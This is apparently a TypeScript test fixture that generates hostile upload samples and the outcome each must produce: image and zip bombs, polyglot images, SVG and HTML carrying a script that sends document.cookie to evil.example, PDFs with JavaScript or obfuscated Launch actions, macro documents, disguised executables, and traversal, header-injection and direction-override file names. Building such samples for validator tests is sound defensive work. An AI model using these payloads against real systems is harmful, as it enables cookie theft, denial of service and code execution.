import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { heicSample } from './heic-sample'
import { zip } from './zip'

/** A file somebody brings: what it is called, what is in it, and what must become of it. */
export interface Hostile {
  what: string
  name: string
  bytes: Buffer
  /** Refused in these words; or kept under this name and type, and without these bytes. */
  becomes: { refused: RegExp } | { name: string; type: string; without?: string }
}

const script = '<script>fetch("https://evil.example/?"+document.cookie)</script>'
const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
const html = `<!doctype html><html><body>${script}</body></html>`
const windowsProgram = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(120), Buffer.from('PE\0\0', 'latin1')])
const linuxProgram = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(57)])

const pdf = (...objects: string[]) => Buffer.from(`%PDF-1.7\n${objects.map((each, at) => `${at + 1} 0 obj ${each} endobj\n`).join('')}trailer <</Root 1 0 R>>\n%%EOF\n`, 'latin1')

function packedPdf(object: string) {
  const packed = deflateSync(`3 0 ${object}`).toString('latin1')
  return pdf('<</Type/Catalog/OpenAction 3 0 R>>', `<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n${packed}\nendstream`)
}

const contentTypes = `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
const document = [
  { name: '[Content_Types].xml', content: contentTypes },
  { name: 'word/document.xml', content: '<w:document/>' },
]

export async function hostileFiles(): Promise<Hostile[]> {
  const photo = sharp({ create: { width: 16, height: 16, channels: 3, background: 'teal' } })
  const [png, jpeg] = [await photo.clone().png().toBuffer(), await photo.clone().jpeg().toBuffer()]
  return [...pictures(png, jpeg), ...pages(), ...documents(), ...programs(), ...names()]
}

function pictures(png: Buffer, jpeg: Buffer): Hostile[] {
  const hugePng = Buffer.from(png)
  hugePng.writeUInt32BE(60_000, 16)
  hugePng.writeUInt32BE(60_000, 20)
  const hugeHeic = Buffer.from(heicSample)
  for (const side of [8, 12]) hugeHeic.writeUInt32BE(30_000, hugeHeic.indexOf('ispe') + side)
  const refused = /^We cannot read this picture/
  return [
    { what: 'an image bomb: 3.6 billion pixels in a few bytes', name: 'bomb.png', bytes: hugePng, becomes: { refused } },
    { what: 'an image bomb as phones take photos', name: 'bomb.heic', bytes: hugeHeic, becomes: { refused } },
    { what: 'a picture that is cut off', name: 'cut.jpg', bytes: jpeg.subarray(0, 200), becomes: { refused } },
    { what: 'a script that begins like a GIF', name: 'poly.gif', bytes: Buffer.from('GIF89a/*;*/=1;alert(document.domain)//'), becomes: { refused } },
    { what: 'a photo with a zip file behind it', name: 'poly.jpg', bytes: Buffer.concat([jpeg, zip([{ name: 'evil.html', content: html }])]), becomes: { name: 'poly.jpg', type: 'image/jpeg', without: 'evil.html' } },
    { what: 'a photo with a page inside', name: 'page.png', bytes: Buffer.concat([png, Buffer.from(html)]), becomes: { name: 'page.png', type: 'image/png', without: 'script' } },
  ]
}

function pages(): Hostile[] {
  return [
    { what: 'a drawing with a script', name: 'drawing.svg', bytes: Buffer.from(svg), becomes: { refused: /^We do not take files that end in \.svg\. Take a PDF/ } },
    { what: 'a drawing with a script that is called a photo', name: 'drawing.png', bytes: Buffer.from(svg), becomes: { refused: /^It is called \.png but holds something else/ } },
    { what: 'a page', name: 'page.html', bytes: Buffer.from(html), becomes: { refused: /files that end in \.html/ } },
    { what: 'a page that is called a PDF', name: 'page.pdf', bytes: Buffer.from(html), becomes: { refused: /called \.pdf but holds something else/ } },
    { what: 'a page that is called a text: it is one, and is never anything else', name: 'page.txt', bytes: Buffer.from(html), becomes: { name: 'page.txt', type: 'text/plain' } },
    { what: 'a film with a page inside', name: 'film.mp4', bytes: Buffer.concat([Buffer.from('\0\0\0\x18ftypisom\0\0\x02\0isommp41', 'latin1'), Buffer.from(html)]), becomes: { name: 'film.mp4', type: 'video/mp4' } },
  ]
}

function documents(): Hostile[] {
  const million = zip([...document, { name: 'word/media/a.bin', content: Buffer.alloc(40_000_000), listed: 10 }])
  const program = /^This PDF would run a program/
  return [
    { what: 'a PDF with a program', name: 'form.pdf', bytes: pdf('<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>'), becomes: { refused: program } },
    { what: 'a PDF that starts a program, spelt another way', name: 'start.pdf', bytes: pdf('<</Type/Catalog/OpenAction<</S/L#61unch/F(cmd.exe)>>>>'), becomes: { refused: program } },
    { what: 'a PDF with a program that is packed away', name: 'packed.pdf', bytes: packedPdf('<</S/JavaScript/JS(app.alert\\(1\\))>>'), becomes: { refused: program } },
    { what: 'a PDF that is a zip file as well: it is kept as a PDF only', name: 'poly.pdf', bytes: Buffer.concat([pdf('<</Type/Catalog>>'), zip([{ name: 'a.txt', content: 'a' }])]), becomes: { name: 'poly.pdf', type: 'application/pdf' } },
    { what: 'a zip bomb of 400 MB in 40 kB', name: 'bomb.docx', bytes: million, becomes: { refused: /unpacks to far more than anybody can open/ } },
    { what: 'a document with macros', name: 'macros.docx', bytes: zip([...document, { name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' }]), becomes: { refused: /^This document carries macros/ } },
    { what: 'a zip file that is called a document', name: 'files.docx', bytes: zip([{ name: 'setup.exe', content: windowsProgram }]), becomes: { refused: /called \.docx but holds something else/ } },
  ]
}

function programs(): Hostile[] {
  return [
    { what: 'nothing at all', name: 'empty.txt', bytes: Buffer.alloc(0), becomes: { refused: /^This file is empty/ } },
    { what: 'a Windows program that is called a PDF', name: 'report.pdf', bytes: windowsProgram, becomes: { refused: /holds something else/ } },
    { what: 'a Linux program that is called a film', name: 'film.mov', bytes: linuxProgram, becomes: { refused: /holds something else/ } },
    { what: 'a program with two endings', name: 'photo.jpg.exe', bytes: windowsProgram, becomes: { refused: /files that end in \.exe/ } },
    { what: 'bytes that are called a table', name: 'table.csv', bytes: Buffer.from('a,b\n\0\x01\x02'), becomes: { refused: /holds something else/ } },
  ]
}

function names(): Hostile[] {
  const text = (what: string, name: string, kept: string): Hostile => ({ what, name, bytes: Buffer.from('Saturday: Ana'), becomes: { name: kept, type: 'text/plain' } })
  return [
    { what: 'a program whose name is turned around', name: 'photo\u202Egpj.exe', bytes: windowsProgram, becomes: { refused: /files that end in \.exe/ } },
    text('a name that climbs out of its folder', '../../../etc/passwd.txt', 'passwd.txt'),
    text('a name that climbs out of its folder on Windows', 'C:\\Windows\\system32\\drivers.txt', 'drivers.txt'),
    text('a name with a NUL and a line break', 'rota\0.exe\r\nX-Evil: 1.txt', 'rota.exeX-Evil_ 1.txt'),
    text('a name with marks that turn the direction', 'rota\u202Efdp\u2066.txt', 'rotafdp.txt'),
    text('a name without an end', `${'long '.repeat(900)}.txt`, `${'long '.repeat(39)}l.txt`),
    text('the name of a device', 'CON.txt', '_CON.txt'),
  ]
}
